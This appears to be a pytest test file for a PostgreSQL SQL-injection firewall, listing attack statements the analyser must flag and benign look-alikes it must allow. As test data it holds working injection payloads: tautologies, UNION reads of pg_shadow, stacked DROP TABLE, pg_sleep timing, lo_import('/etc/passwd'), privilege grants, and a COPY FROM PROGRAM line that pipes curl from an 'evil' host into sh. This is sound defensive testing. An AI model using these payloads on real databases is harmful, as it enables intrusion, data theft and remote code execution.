"""The injection analysis (mamori.dbguard.analysis): every reason code with hits and near
misses, the normalised text, kinds, fingerprints, and what cannot be parsed."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mamori.dbguard.analysis import REASONS, Analysis, analyse
from mamori.dbguard.facts import Verdict

DOCS = Path(__file__).resolve().parents[2] / "docs" / "dbguard-firewall.md"


def codes(a: Analysis) -> set[str]:
    return {r.code for r in a.decision.reasons}


# (statement, the code it must give, the verdict it must reach)
HITS: list[tuple[str, str, Verdict]] = [
    # tautologies: an OR branch that does not depend on the row
    ("SELECT * FROM users WHERE id = '1' OR 1=1", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = '1' OR 'a'='a'", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE name = 'x' OR true", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 OR 2>1", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 OR 'ab' LIKE 'a%'", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 OR 3 IN (1, 2, 3)", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 OR NOT 1=2", "sqli.tautology", Verdict.BLOCK),
    ("UPDATE users SET admin = true WHERE id = 5 OR 1=1", "sqli.tautology", Verdict.BLOCK),
    ("DELETE FROM sessions WHERE token = 'x' OR 'x'='x'", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 OR ascii('a') = 97", "sqli.tautology", Verdict.BLOCK),
    ("SELECT * FROM t WHERE (a = 1 OR (true AND 1 = 1))", "sqli.tautology", Verdict.BLOCK),
    # constant conditions under AND
    ("SELECT * FROM users WHERE id = 1 AND 1=2", "sqli.constant_condition", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1 AND 'x'='x'", "sqli.constant_condition", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1 OR 1=2", "sqli.constant_condition", Verdict.ALERT),
    (
        "SELECT * FROM users WHERE id = 1 AND (SELECT count(*) FROM secrets) > 0",
        "sqli.constant_condition",
        Verdict.ALERT,
    ),
    (
        "SELECT * FROM t WHERE id = 1 AND ascii(substr((SELECT password FROM users LIMIT 1),1,1)) > 64",
        "sqli.constant_condition",
        Verdict.ALERT,
    ),
    ("SELECT * FROM users WHERE name = 'a' OR 1='1' AND x = 2", "sqli.constant_condition", Verdict.ALERT),
    ("SELECT id FROM t ORDER BY 1 AND 1=2", "sqli.constant_condition", Verdict.ALERT),
    ("SELECT CASE WHEN 1=1 THEN 'a' END FROM t", "sqli.constant_condition", Verdict.ALERT),
    # odd expressions: what a stray quote leaves
    ("UPDATE users SET name = '' < '' WHERE id = 42", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM t ORDER BY 1 OR 1=1", "sqli.constant_condition", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 'a' / x", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = '' ^ ''", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE login = '' || ''", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM products WHERE name LIKE '%' <= '%'", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1 AND 1=@@version", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = @@version", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = -'1'", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = CASE 1 WHEN 2 THEN 2 END", "sqli.odd_expression", Verdict.ALERT),
    ("SELECT id FROM products ORDER BY (SELECT 1)", "sqli.odd_expression", Verdict.ALERT),
    ("INSERT INTO c (body) VALUES ('a' OR 'b')", "sqli.odd_expression", Verdict.ALERT),
    # hex literals and CHR chains
    ("SELECT * FROM users WHERE name = 0x61646d696e", "sqli.encoded_literal", Verdict.ALERT),
    (
        "SELECT * FROM users WHERE name = CHR(97)||CHR(100)||CHR(109)",
        "sqli.encoded_literal",
        Verdict.ALERT,
    ),
    # UNION
    (
        "SELECT name FROM products WHERE id = -1 UNION SELECT usename FROM pg_shadow",
        "sqli.union_catalog",
        Verdict.BLOCK,
    ),
    (
        "SELECT name, price FROM products WHERE id = 1 UNION SELECT table_name, 1 FROM information_schema.tables",
        "sqli.union_catalog",
        Verdict.BLOCK,
    ),
    (
        "SELECT name FROM products WHERE id = -1 UNION ALL SELECT version()",
        "sqli.union_catalog",
        Verdict.BLOCK,
    ),
    (
        "SELECT name FROM products WHERE id = -1 UNION SELECT current_user",
        "sqli.union_catalog",
        Verdict.BLOCK,
    ),
    ("SELECT * FROM users WHERE id = 1 UNION SELECT 1,2,3", "sqli.union_select", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1 UNION SELECT NULL", "sqli.union_select", Verdict.ALERT),
    (
        "SELECT a, b, c, d FROM t WHERE id = 1 UNION SELECT NULL, NULL, password, NULL FROM users",
        "sqli.union_select",
        Verdict.ALERT,
    ),
    (
        "SELECT a, b, c FROM t WHERE id = 1 UNION SELECT 1, 2, password FROM users",
        "sqli.union_select",
        Verdict.ALERT,
    ),
    # catalogs and server information in statements over application data
    (
        "SELECT * FROM users WHERE id = 1 AND EXISTS (SELECT 1 FROM pg_user WHERE usename = 'postgres')",
        "sqli.catalog_access",
        Verdict.ALERT,
    ),
    ("SELECT * FROM users WHERE id = length(version())", "sqli.catalog_access", Verdict.ALERT),
    # stacked statements
    ("SELECT * FROM users WHERE id = 1; DROP TABLE users", "sqli.stacked", Verdict.ALERT),
    (
        "SELECT * FROM users WHERE id = 1; UPDATE users SET admin = true WHERE id = 7",
        "sqli.stacked",
        Verdict.ALERT,
    ),
    ("SELECT * FROM users WHERE id = 1; SELECT pg_sleep(5)", "sqli.stacked", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1; SELECT * FROM pg_shadow", "sqli.stacked", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = '1'; DROP TABLE users--'", "sqli.stacked", Verdict.BLOCK),
    # comments
    ("SELECT * FROM users WHERE login = 'admin'--' AND pw = 'x'", "sqli.comment", Verdict.ALERT),
    ("SELECT a FROM t WHERE a = 1 UNION/**/SELECT b FROM u", "sqli.comment", Verdict.ALERT),
    ("SELECT * FROM t WHERE id = 1 /* x */ AND b = 2", "sqli.comment", Verdict.ALERT),
    ("SELECT * FROM t WHERE id = 395 /*!32359 AND 0 */", "sqli.comment", Verdict.ALERT),
    ("SELECT * FROM t WHERE id = 1/**/", "sqli.comment", Verdict.ALERT),
    # timing
    ("SELECT pg_sleep(5)", "sqli.timing", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1 AND pg_sleep(5) IS NOT NULL", "sqli.timing", Verdict.BLOCK),
    ("SELECT * FROM users, pg_sleep_for('5 seconds')", "sqli.timing", Verdict.BLOCK),
    ("SELECT * FROM users WHERE id = 1 AND sleep(5)", "sqli.timing", Verdict.BLOCK),
    # the server's files, programs, other servers
    ("SELECT lo_import('/etc/passwd')", "sqli.dangerous_function", Verdict.BLOCK),
    ("SELECT pg_read_file('postgresql.conf')", "sqli.dangerous_function", Verdict.BLOCK),
    (
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
        "sqli.dangerous_function",
        Verdict.BLOCK,
    ),
    ("SELECT pg_catalog.pg_ls_dir('.')", "sqli.dangerous_function", Verdict.BLOCK),
    ("SELECT query_to_xml('select 1', true, true, '')", "sqli.dangerous_function", Verdict.ALERT),
    ("SELECT pg_terminate_backend(123)", "sqli.dangerous_function", Verdict.ALERT),
    ("COPY t FROM PROGRAM 'curl http://evil/x | sh'", "sqli.copy_program", Verdict.BLOCK),
    ("COPY (SELECT 1) TO PROGRAM 'id'", "sqli.copy_program", Verdict.BLOCK),
    ("COPY users TO '/tmp/users.csv'", "sqli.copy_file", Verdict.ALERT),
    ("LOAD '/tmp/evil.so'", "sqli.dangerous_command", Verdict.BLOCK),
    (
        "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c",
        "sqli.dangerous_command",
        Verdict.BLOCK,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$",
        "sqli.dangerous_command",
        Verdict.ALERT,
    ),
    ("CREATE EXTENSION dblink", "sqli.dangerous_command", Verdict.ALERT),
    ("ALTER SYSTEM SET log_statement = 'none'", "sqli.dangerous_command", Verdict.ALERT),
    # unparseable
    ("SELECT * FROM users WHERE id = '1", "sqli.unparseable", Verdict.ALERT),
    ("SELECT * FROM users WHERE id = 1; WAITFOR DELAY '0:0:5'--", "sqli.unparseable", Verdict.BLOCK),
    ("SELECT 1\x00 UNION SELECT 2", "sqli.unparseable", Verdict.ALERT),
    # DB-1: privilege changes alert
    ("GRANT SELECT ON orders TO reporting", "priv.grant", Verdict.ALERT),
    ("GRANT admin TO mallory", "priv.grant", Verdict.ALERT),
    ("REVOKE ALL ON orders FROM public", "priv.revoke", Verdict.ALERT),
    ("REVOKE admin FROM bob", "priv.revoke", Verdict.ALERT),
    ("DROP OWNED BY bob", "priv.revoke", Verdict.ALERT),
    ("CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'x'", "priv.role_change", Verdict.ALERT),
    ("CREATE USER mallory", "priv.role_change", Verdict.ALERT),
    ("ALTER ROLE bob WITH SUPERUSER", "priv.role_change", Verdict.ALERT),
    ("ALTER ROLE bob SET search_path = evil", "priv.role_change", Verdict.ALERT),
    ("ALTER ROLE bob RENAME TO robert", "priv.role_change", Verdict.ALERT),
    ("DROP ROLE bob", "priv.role_change", Verdict.ALERT),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting",
        "priv.default_privileges",
        Verdict.ALERT,
    ),
    ("ALTER TABLE orders OWNER TO mallory", "priv.owner_change", Verdict.ALERT),
    ("ALTER SCHEMA app OWNER TO mallory", "priv.owner_change", Verdict.ALERT),
    ("REASSIGN OWNED BY bob TO mallory", "priv.owner_change", Verdict.ALERT),
    ("CREATE POLICY p ON orders USING (true)", "priv.row_security", Verdict.ALERT),
    ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", "priv.row_security", Verdict.ALERT),
    # an injected GRANT after a query: two findings block
    ("SELECT * FROM t WHERE id = 1; GRANT ALL ON t TO mallory", "priv.grant", Verdict.BLOCK),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "code", "verdict"), HITS, ids=[h[0][:60] for h in HITS])
def test_hits(sql: str, code: str, verdict: Verdict) -> None:
    a = analyse(sql)
    assert code in codes(a), a.decision
    assert a.decision.verdict == verdict, a.decision
    assert all(r.clause == REASONS[r.code].clause for r in a.decision.reasons)


# (statement, a code it must not give); these stay ALLOW
NEAR_MISSES: list[tuple[str, str]] = [
    # bound parameters never make a tautology
    ("SELECT * FROM users WHERE id = $1 OR $2 = $2", "sqli.tautology"),
    ("SELECT * FROM users WHERE ($1::text IS NULL OR name = $1)", "sqli.tautology"),
    ("SELECT * FROM users WHERE id = 1 AND $1 = 1", "sqli.constant_condition"),
    ("SELECT * FROM t WHERE a = 1 OR b = 2", "sqli.tautology"),
    # the query builder's and the ORM's idioms
    ("SELECT * FROM orders WHERE 1=1 AND status = 'paid'", "sqli.constant_condition"),
    ("SELECT * FROM orders WHERE true AND status = 'paid'", "sqli.constant_condition"),
    ("SELECT * FROM orders WHERE 1=0", "sqli.constant_condition"),
    ("SELECT * FROM orders WHERE false", "sqli.constant_condition"),
    ("SELECT u.id FROM users u LEFT JOIN LATERAL (SELECT 1) x ON true", "sqli.constant_condition"),
    ("SELECT * FROM users WHERE users.id IN (NULL) AND (1 != 1)", "sqli.constant_condition"),
    ("SELECT * FROM users WHERE (users.name NOT IN (NULL) OR (1 = 1))", "sqli.tautology"),
    ("SELECT * FROM users WHERE (NULL IS NULL OR name = NULL)", "sqli.tautology"),
    ("SELECT * FROM users WHERE ('bob' IS NULL OR name = 'bob')", "sqli.constant_condition"),
    ("SELECT id FROM events WHERE random() < 0.01", "sqli.constant_condition"),
    ("SELECT * FROM t WHERE (true AND pg_type_is_visible(oid)) OR (true AND x)", "sqli.tautology"),
    (
        "SELECT * FROM pg_publication WHERE oid = '16391' AND pg_relation_is_publishable('16391')",
        "sqli.constant_condition",
    ),
    # correlated subqueries depend on the row
    (
        "SELECT users.id FROM users WHERE (SELECT count(orders.id) FROM orders WHERE orders.user_id = users.id) > 5",
        "sqli.constant_condition",
    ),
    ("SELECT * FROM p WHERE price > (SELECT avg(price) FROM p)", "sqli.constant_condition"),
    # literal content never matters
    ("SELECT * FROM users WHERE name = 'x'' OR ''1''=''1'", "sqli.tautology"),
    ("INSERT INTO reviews (body) VALUES ('great -- would buy /* again */ 1=1')", "sqli.comment"),
    ("SELECT * FROM t WHERE name LIKE '%' || 'lamp' || '%'", "sqli.odd_expression"),
    ("SELECT 'a' || name FROM t", "sqli.odd_expression"),
    ("SELECT * FROM t WHERE tags && '{a,b}'", "sqli.odd_expression"),
    ("SELECT * FROM docs WHERE tsv @@ to_tsquery('cat')", "sqli.odd_expression"),
    ("SELECT * FROM t ORDER BY 2, name DESC", "sqli.odd_expression"),
    ("SELECT * FROM t ORDER BY random()", "sqli.odd_expression"),
    # comments ORMs and people write
    ("/* request_id=1 */ SELECT * FROM t WHERE id = 1", "sqli.comment"),
    ("SELECT * FROM t WHERE id = 1 /*controller='users',framework='django'*/", "sqli.comment"),
    ("SELECT /*+ IndexScan(t) */ * FROM t WHERE id = 1", "sqli.comment"),
    ("SELECT a, -- the a\n b FROM t WHERE id = 1", "sqli.comment"),
    ("SELECT count(*) FROM t; -- check", "sqli.comment"),
    ("CREATE TABLE t (id int /* key */, name text) -- made by hand", "sqli.comment"),
    # UNIONs of application data
    ("SELECT id, name FROM a UNION ALL SELECT id, name FROM b", "sqli.union_select"),
    ("SELECT 0 AS id, 'All' AS name UNION ALL SELECT id, name FROM categories", "sqli.union_select"),
    ("SELECT email FROM users UNION ALL SELECT 'ops@example.org'", "sqli.union_select"),
    ("SELECT id, email, NULL FROM a UNION SELECT id, email, phone FROM b", "sqli.union_select"),
    # catalog-only queries (psql's \d, ORM reflection) are not over application data
    (
        "SELECT c.relname FROM pg_catalog.pg_class c UNION SELECT 'x' FROM pg_catalog.pg_namespace",
        "sqli.union_catalog",
    ),
    ("SELECT current_user, version()", "sqli.catalog_access"),
    ("INSERT INTO audit (who) VALUES (current_user)", "sqli.catalog_access"),
    # several statements that belong together
    ("BEGIN; UPDATE a SET x = 1 WHERE id = 2; COMMIT;", "sqli.stacked"),
    ("CREATE TABLE t (id int); CREATE INDEX ON t (id);", "sqli.stacked"),
    ("SET search_path TO app; SELECT * FROM t", "sqli.stacked"),
    ("SELECT 1; SELECT 2", "sqli.stacked"),
    # ordinary functions and commands
    ("SELECT set_config('app.tenant', '4', true)", "sqli.dangerous_function"),
    ("SELECT pg_try_advisory_xact_lock(42)", "sqli.dangerous_function"),
    ("COPY orders FROM STDIN WITH (FORMAT csv)", "sqli.copy_file"),
    ("COPY (SELECT * FROM orders) TO STDOUT", "sqli.copy_program"),
    ("CREATE EXTENSION IF NOT EXISTS pgcrypto", "sqli.dangerous_command"),
    (
        "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
        "sqli.dangerous_command",
    ),
    ("SELECT * FROM users WHERE id = 26", "sqli.encoded_literal"),
    ("SELECT chr(10)", "sqli.encoded_literal"),
    ("SET ROLE app_reader", "priv.role_change"),
    ("SELECT sleep_hours, pg_sleep_stats FROM patients", "sqli.timing"),
    ("SELECT 'é', \"Straße\" FROM t", "sqli.unparseable"),
    ("SELECT * FROM grants WHERE grantee = 'bob'", "priv.grant"),
    ("UPDATE tokens SET revoked = true WHERE id = 4", "priv.revoke"),
    ("SELECT * FROM pg_default_acl", "priv.default_privileges"),
    ("ALTER TABLE documents ADD COLUMN owner text", "priv.owner_change"),
    ("ALTER TABLE documents ENABLE ROW LEVEL SECURITY", "priv.row_security"),
    ("SELECT lo_size FROM blobs WHERE dblink_id = 3", "sqli.dangerous_function"),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "code"), NEAR_MISSES, ids=[m[0][:60] for m in NEAR_MISSES])
def test_near_misses(sql: str, code: str) -> None:
    a = analyse(sql)
    assert code not in codes(a), a.decision
    assert a.parsed, a.parse_error
    assert a.decision.verdict == Verdict.ALLOW, a.decision


def test_every_reason_code_has_a_hit_and_a_near_miss() -> None:
    assert {code for _, code, _ in HITS} == set(REASONS)
    assert {code for _, code in NEAR_MISSES} == set(REASONS)


def test_every_reason_code_is_documented() -> None:
    text = DOCS.read_text(encoding="utf-8")
    for code, info in REASONS.items():
        assert f"`{code}`" in text, code
        assert info.clause in ("DB-1", "DB-4")


def test_every_verdict_has_a_word() -> None:
    assert [v.word for v in Verdict] == ["allow", "alert", "block"]


# ---------------------------------------------------------------- the other fields


def test_normalized_text_keeps_no_literal() -> None:
    secret = "hunter2-ÿ"
    for sql in (
        f"SELECT * FROM users WHERE password = '{secret}' /* {secret} */ -- {secret}",
        f"ALTER ROLE bob PASSWORD '{secret}'",
        f"COPY t TO '/tmp/{secret}'",
        f"CREATE TABLE t (a text DEFAULT '{secret}')",
        f"COMMENT ON TABLE t IS '{secret}'",
        f"SELECT $${secret}$$, E'{secret}', U&'{secret}', B'101', X'ff', 12345, 1.5e3",
        f"SELECT * FROM users WHERE id = '{secret}",  # unparseable, scanner refuses it too
        f"SELECT * FROM users WHERE id = '{secret}' OR",  # unparseable, the scanner accepts it
    ):
        a = analyse(sql)
        assert secret not in a.normalized, a.normalized
        assert "12345" not in a.normalized
        assert secret not in a.parse_error
        assert all(secret not in r.detail for r in a.decision.reasons)


def test_normalized_text() -> None:
    a = analyse("/* tag */ SELECT  a,\n  b FROM t WHERE x = 'v' AND y = $1 -- note\n LIMIT 10")
    assert a.normalized == "SELECT a, b FROM t WHERE x = $2 AND y = $1 LIMIT $3"
    assert analyse('SELECT "Odd  Name" FROM t').normalized == 'SELECT "Odd  Name" FROM t'


def test_fingerprint_ignores_constants_not_structure() -> None:
    one = analyse("SELECT * FROM users WHERE id = 1")
    two = analyse("SELECT * FROM users WHERE id = 987")
    attack = analyse("SELECT * FROM users WHERE id = 1 OR 1=1")
    assert one.fingerprint == two.fingerprint != attack.fingerprint
    assert re.fullmatch(r"[0-9a-f]{16}", one.fingerprint)
    assert analyse("SELECT * FROM users WHERE id = '1").fingerprint == ""


def test_kinds_one_per_statement() -> None:
    a = analyse(
        "BEGIN; SELECT 1; INSERT INTO t VALUES (1); UPDATE t SET a = 2; DELETE FROM t; "
        "COPY t FROM STDIN; GRANT SELECT ON t TO r; REVOKE SELECT ON t FROM r; CREATE ROLE r; "
        "ALTER ROLE r LOGIN; DROP ROLE r; SET x = 1; CREATE TABLE u (a int); COMMIT"
    )
    assert a.kinds == (
        "transaction", "select", "insert", "update", "delete", "copy", "grant", "revoke",
        "create_role", "alter_role", "drop_role", "set", "ddl", "transaction",
    )  # fmt: skip
    assert a.statements == 14


def test_parse_error_does_not_quote_the_text() -> None:
    a = analyse("SELECT * FROM users WHERE id = 'abc' zzz")
    assert not a.parsed
    assert "zzz" not in a.parse_error
    assert "at character" in a.parse_error
    assert a.statements == 1 and a.kinds == ()


def test_empty_text() -> None:
    a = analyse("  -- nothing\n")
    assert a.parsed and a.statements == 0 and a.decision.verdict == Verdict.ALLOW


def test_not_utf8_is_unparseable() -> None:
    a = analyse("SELECT '\udcff'")
    assert not a.parsed and "UTF-8" in a.parse_error and a.normalized == ""


def test_deep_nesting_does_not_raise() -> None:
    a = analyse("SELECT * FROM t WHERE a = " + "1+" * 5000 + "1 OR 1=1")
    assert a.decision.verdict >= Verdict.ALERT
    b = analyse("SELECT " + "(" * 20000 + "1" + ")" * 20000)
    assert b.decision.verdict >= Verdict.ALERT  # the parser gives up: unparseable


def test_results_are_cached() -> None:
    sql = "SELECT * FROM cached WHERE id = 7"
    assert analyse(sql) is analyse(sql)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_analyse_never_raises(text: str) -> None:
    a = analyse(text)
    assert a.decision.verdict in Verdict
    assert a.parsed == (a.parse_error == "")


SQLISH = st.lists(
    st.sampled_from(
        [
            "SELECT",
            "*",
            "FROM",
            "t",
            "WHERE",
            "a",
            "=",
            "1",
            "'x'",
            "OR",
            "AND",
            "UNION",
            "(",
            ")",
            ";",
            "--",
            "/*",
            "*/",
            "$1",
            "NULL",
            "IS",
            "NOT",
            "LIKE",
            "'%'",
            "||",
            "0x1f",
            "pg_sleep(1)",
            "CASE",
            "WHEN",
            "THEN",
            "END",
            "ORDER",
            "BY",
            "@@version",
            ",",
            "DROP",
        ]
    ),
    max_size=30,
).map(" ".join)


@settings(max_examples=500, deadline=None)
@given(SQLISH)
def test_analyse_never_raises_on_sql_like_text(text: str) -> None:
    a = analyse(text)
    assert a.decision.verdict in Verdict
